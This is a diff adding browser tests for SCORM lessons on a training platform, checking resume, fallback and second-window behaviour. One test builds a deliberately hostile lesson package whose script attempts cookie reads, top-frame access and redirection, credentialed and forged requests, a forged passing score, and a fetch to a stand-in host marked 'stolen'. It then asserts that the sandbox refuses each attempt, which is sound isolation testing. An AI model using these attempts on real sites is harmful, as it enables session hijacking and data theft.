@@ -1,0 +1,302 @@
+import type { FrameLocator, Page } from 'playwright-core';
+import { expect, inject, test } from 'vitest';
+import { countingToFive, scormZip, type ScormEdition } from '#assembly/story/scorm.ts';
+import { m } from '#messages';
+import { lessonsOriginOf } from '#platform/settings/index.server.ts';
+import { barriersOn, inBrowser } from '#platform/testing/browser.ts';
+import { button, fillIn, link, once, onAPhone, press, read, withoutScript } from './walk.ts';
+
+const { as, open } = inBrowser();
+
+/** A trainer writes a course of one package, and publishes it; without script. */
+async function courseOf(bytes: Buffer): Promise<{ address: string; title: string }> {
+  const trainer = await as('trainer', withoutScript);
+  const title = once('Course');
+  await trainer.goto('/training/courses/new');
+  const [kind, language] = await Promise.all(
+    ['kind', 'language'].map((name) => trainer.locator(`select[name=${name}] option`).nth(1).innerText())
+  );
+  await fillIn(trainer, { title, kind: kind!, language: language! });
+  await press(button(trainer, m.training_course_begin_writing()));
+  const draft = new URL(trainer.url()).pathname;
+  await press(link(trainer, m.training_package_add()));
+  await trainer
+    .locator('input[type=file]')
+    .setInputFiles({ name: 'lesson.zip', mimeType: 'application/zip', buffer: bytes });
+  await press(button(trainer, m.training_package_add()));
+  expect(await read(trainer)).toContain(m.training_package_added());
+  await trainer.goto(draft);
+  await press(button(trainer, m.training_course_publish()));
+  await trainer.context().close();
+  return { address: draft.replace(/\/draft$/, ''), title };
+}
+
+async function takeUp(key: string, address: string): Promise<Page> {
+  const page = await as(key, onAPhone);
+  await page.goto(address);
+  await press(button(page, m.training_course_take()));
+  await press(page.locator('section[aria-labelledby=packages] a').first());
+  return page;
+}
+
+const inside = (page: Page): FrameLocator => page.frameLocator('main iframe').frameLocator('iframe');
+const saved = (page: Page) =>
+  page.getByRole('status').filter({ hasText: m.training_package_saved() }).waitFor();
+
+/** Presses the button that opens or goes on with the package's one item. */
+async function openLesson(page: Page): Promise<void> {
+  await press(page.locator('main form button').first());
+  await page.locator('main iframe').waitFor();
+}
+
+async function leave(page: Page): Promise<void> {
+  await button(page, m.training_package_close()).click();
+  await page.waitForURL(/\/packages\/[^/]+$/);
+}
+
+test('a learner begins a SCORM 1.2 lesson, leaves, goes on where they were, and passes', async () => {
+  const { address } = await courseOf(countingToFive());
+  const page = await takeUp('supporter', address);
+  await openLesson(page);
+  expect(await barriersOn(page)).toEqual([]);
+  await inside(page).getByRole('button', { name: 'Next' }).first().click();
+  await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
+  await leave(page);
+  expect(await read(page)).toContain(m.training_package_under_way());
+
+  await openLesson(page);
+  await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
+  await inside(page).getByRole('button', { name: 'Next' }).first().click();
+  await inside(page).getByRole('button', { name: /^Wait/ }).click();
+  await leave(page);
+  const said = await read(page);
+  expect(said).toContain(m.training_quiz_passed());
+  expect(said).toContain('100');
+  await page.goto(address);
+  expect(await read(page)).toContain(m.training_quiz_passed());
+});
+
+/** A lesson that writes what it was told as it began, and then some. */
+const diary = (edition: ScormEdition) =>
+  scormZip({
+    edition,
+    title: 'Diary',
+    items: [{ identifier: 'one', title: 'Diary', href: 'deep/er/index.html?mode=a' }],
+    parts: {
+      'deep/er/index.html': '<pre></pre><script src="../diary.js"></script>',
+      'deep/diary.js': diaryScript
+    }
+  });
+const diaryScript = `let above = window;
+while (!above.API_1484_11 && above.parent !== above) above = above.parent;
+const api = above.API_1484_11;
+api.Initialize('');
+const told = Object.fromEntries(['entry', 'location', 'suspend_data', 'total_time', 'score.scaled', 'completion_status', 'learner_name']
+  .map((name) => [name, api.GetValue('cmi.' + name)]));
+document.querySelector('pre').textContent = JSON.stringify({ ...told, asked: location.search });
+for (const [name, value] of Object.entries({ location: 'page 4', suspend_data: 'long words; '.repeat(3000), 'score.scaled': '0.75',
+  completion_status: 'incomplete', exit: 'suspend', session_time: 'PT5M', 'interactions.0.id': 'q', 'interactions.0.type': 'choice' }))
+  api.SetValue('cmi.' + name, value);
+api.Commit('');`;
+
+test('a SCORM 2004 lesson finds again what it kept, also when its window was simply closed', async () => {
+  const { address } = await courseOf(diary('2004'));
+  const page = await takeUp('supporter', address);
+  const told = async () => JSON.parse(await inside(page).locator('pre').innerText());
+  await openLesson(page);
+  expect(await told()).toMatchObject({
+    entry: 'ab-initio',
+    location: '',
+    asked: '?mode=a',
+    learner_name: 'Amina Diallo'
+  });
+  await saved(page);
+  // Away without a word.
+  await page.goto('/today');
+  await page.goto(address);
+  await press(page.locator('section[aria-labelledby=packages] a').first());
+  await openLesson(page);
+  const again = await told();
+  expect(again).toMatchObject({
+    entry: 'resume',
+    location: 'page 4',
+    'score.scaled': '0.75',
+    completion_status: 'incomplete'
+  });
+  expect(again.suspend_data).toHaveLength(36_000);
+  expect(again.total_time).toBe('PT300S');
+});
+
+test('without script there is a plain sentence, and the lesson’s page is still there', async () => {
+  const page = await as('supporter', withoutScript);
+  const { address } = await courseOf(diary('2004'));
+  await page.goto(address);
+  await press(button(page, m.training_course_take()));
+  await press(page.locator('section[aria-labelledby=packages] a').first());
+  expect(await read(page)).toContain(m.training_package_needs_script());
+  await press(page.locator('main form button').first());
+  expect(await read(page)).toContain(m.training_package_needs_script());
+  expect(await page.locator('iframe').count()).toBe(0);
+});
+
+test('a package opened in a second window is saved there alone, and the first one says so', async () => {
+  const { address } = await courseOf(countingToFive());
+  const page = await takeUp('supporter', address);
+  const lesson = page.url();
+  await openLesson(page);
+  await inside(page).getByRole('heading', { name: 'The pause' }).waitFor();
+  const second = await page.context().newPage();
+  await second.goto(lesson);
+  await openLesson(second);
+  await inside(second).getByRole('button', { name: 'Next' }).first().click();
+  await saved(second);
+  await inside(page).getByRole('button', { name: 'Next' }).first().click();
+  await page.getByText(m.training_package_opened_elsewhere()).waitFor();
+});
+
+/** A package that tries everything it should not be able to do, and writes down what came of each. */
+const hostile = (ours: string) =>
+  scormZip({
+    edition: '1.2',
+    title: 'Hostile',
+    items: [{ identifier: 'one', title: 'Hostile', href: 'index.html' }],
+    parts: {
+      'index.html': `<!doctype html><title>Hostile</title><pre></pre><iframe name="inner"></iframe><script src="hostile.js"></script>`,
+      'hostile.js': `const ours = ${JSON.stringify(ours)};
+// Where a browser gives strangers no storage at all, even to ask for it is an error.
+let storage = null;
+try { storage = localStorage; } catch {}
+const tries = {
+  cookie: () => document.cookie || 'none',
+  left_before: () => storage?.getItem('left') || 'none',
+  topDocument: () => top.document.title,
+  topStorage: () => top.localStorage.length,
+  topScript: () => top.eval('1'),
+  topAway: () => { top.location = ours + '/sign-out'; return 'went'; },
+  popup: () => window.open(ours + '/today') ? 'opened' : 'none',
+  read: async () => (await fetch(ours + '/today', { credentials: 'include' })).status,
+  readBlind: async () => (await fetch(ours + '/today', { credentials: 'include', mode: 'no-cors' })).type,
+  write: async () => (await fetch(ours + '/account/organisation', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'x' })).type,
+  beacon: () => new Promise((done) => { document.addEventListener('securitypolicyviolation', (e) => done('refused'), { once: true }); navigator.sendBeacon(ours + '/sign-out', 'x'); setTimeout(done, 500, 'sent'); }),
+  picture: () => new Promise((done) => Object.assign(new Image(), { onload: () => done('shown'), onerror: () => done('refused'), src: ours + '/favicon.svg' })),
+  elsewhere: async () => (await fetch('https://example.org/?stolen', { mode: 'no-cors' })).type,
+  pageHere: async () => (await fetch('/today')).status,
+  accountHere: async () => (await fetch('/account')).status,
+  metricsHere: async () => (await fetch('/metrics')).status,
+  postHere: async () => (await fetch('/sign-in', { method: 'POST', body: 'x' })).status,
+  otherPart: async () => (await fetch('../../../../../../training')).status,
+  framed: () => new Promise((done) => {
+    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+    document.querySelector('iframe').src = ours + '/today';
+    setTimeout(done, 1500, 'shown');
+  }),
+  form: () => new Promise((done) => {
+    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+    const form = Object.assign(document.createElement('form'), { action: ours + '/sign-out', method: 'post', target: 'inner' });
+    document.body.append(form);
+    form.submit();
+    setTimeout(done, 1500, 'sent');
+  }),
+  forged: () => { top.postMessage({ say: 'report', cmi: { core: { lesson_status: 'passed', score: { raw: '100' } } } }, '*'); return 'sent'; }
+};
+(async () => {
+  const found = {};
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { found[name] = await Promise.race([attempt(), new Promise((done) => setTimeout(done, 3000, 'silence'))]); }
+    catch { found[name] = 'refused'; }
+  }
+  storage?.setItem('left', 'behind');
+  document.cookie = 'left=behind; max-age=9999';
+  document.querySelector('pre').textContent = JSON.stringify(found);
+})();`
+    }
+  });
+
+test('a hostile package reaches neither the session, nor our pages, nor anybody else, nor what was left by another', async () => {
+  const ours = inject('origin');
+  const { address } = await courseOf(hostile(ours));
+  const page = await as('supporter');
+  const answered: string[] = [];
+  await page.goto(address);
+  await press(button(page, m.training_course_take()));
+  await press(page.locator('section[aria-labelledby=packages] a').first());
+  const lesson = page.url();
+  const found = async () =>
+    JSON.parse(await inside(page).locator('pre:not(:empty)').innerText({ timeout: 40_000 }));
+  await press(page.locator('main form button').first());
+  page.on('response', (response) => {
+    if (response.frame() !== page.mainFrame() && response.url().startsWith(ours))
+      answered.push(response.url());
+  });
+  const expected = {
+    cookie: 'none',
+    left_before: 'none',
+    topDocument: 'refused',
+    topStorage: 'refused',
+    topScript: 'refused',
+    topAway: 'refused',
+    popup: 'none',
+    read: 'refused',
+    readBlind: 'refused',
+    write: 'refused',
+    beacon: 'refused',
+    picture: 'refused',
+    elsewhere: 'refused',
+    pageHere: 404,
+    accountHere: 404,
+    metricsHere: 404,
+    postHere: 405,
+    otherPart: 404,
+    framed: 'refused',
+    form: 'refused',
+    forged: 'sent'
+  };
+  expect(await found()).toEqual(expected);
+  expect(answered).toEqual([]);
+  expect(new URL(page.url()).pathname).toContain('/visits/');
+  expect(await page.context().cookies(lessonsOriginOf(ours)!)).toEqual([]);
+
+  // Still signed in, the forged word was not believed, and what was left behind is not there for the next.
+  await page.goto(lesson);
+  expect(await read(page)).not.toContain(m.training_quiz_passed());
+  await press(page.locator('main form button').first());
+  expect(await found()).toEqual(expected);
+});
+
+test('lessons are answered at their own address alone, and nothing else is answered there', async () => {
+  const ours = inject('origin');
+  const lessons = lessonsOriginOf(ours)!;
+  const { address } = await courseOf(countingToFive());
+  const page = await takeUp('supporter', address);
+  await openLesson(page);
+  await inside(page).getByRole('heading', { name: 'The pause' }).waitFor();
+  const content = page
+    .frames()
+    .find((frame) => frame.url().includes('/content/'))!
+    .url();
+  const { pathname } = new URL(content);
+  const status = async (at: string, options = {}) =>
+    (await fetch(at, { redirect: 'manual', ...options })).status;
+  const reply = await fetch(content);
+  expect(reply.status).toBe(200);
+  expect(reply.headers.get('content-security-policy')).toContain('sandbox allow-scripts');
+  expect(reply.headers.get('set-cookie')).toBeNull();
+  const stage = await fetch(content.replace(/content\/.*/, 'stage/stage.html'));
+  // Not "cookies": that would sign everybody out of a neighbouring name.
+  expect(stage.headers.get('clear-site-data')).toBe('"storage"');
+  expect(await status(ours + pathname)).toBe(404);
+  expect(await status(ours + pathname.replace('lessons', '%6cessons'))).toBe(404);
+  expect(
+    await status(ours + pathname.replace('lessons', '%6cessons'), { headers: { 'x-trellis-lessons': 'yes' } })
+  ).toBe(404);
+  expect(await status(lessons + pathname.replace('lessons', '%6cessons'))).toBe(404);
+  expect(await status(lessons + pathname.replace(/lessons\/[^/]+/, 'lessons/another-code'))).toBe(404);
+  for (const path of ['/', '/today', '/sign-in', '/healthz', '/field', '/favicon.svg'])
+    expect(await status(lessons + path)).toBe(404);
+  expect(await status(content, { method: 'POST' })).toBe(405);
+  expect((await fetch(content, { headers: { range: 'bytes=0-4' } })).status).toBe(206);
+  // Somebody else's code opens nothing of theirs: a visitor to it is nobody.
+  expect(await (await open()).goto(page.url()).then((answer) => new URL(answer!.url()).pathname)).toBe(
+    '/sign-in'
+  );
+});
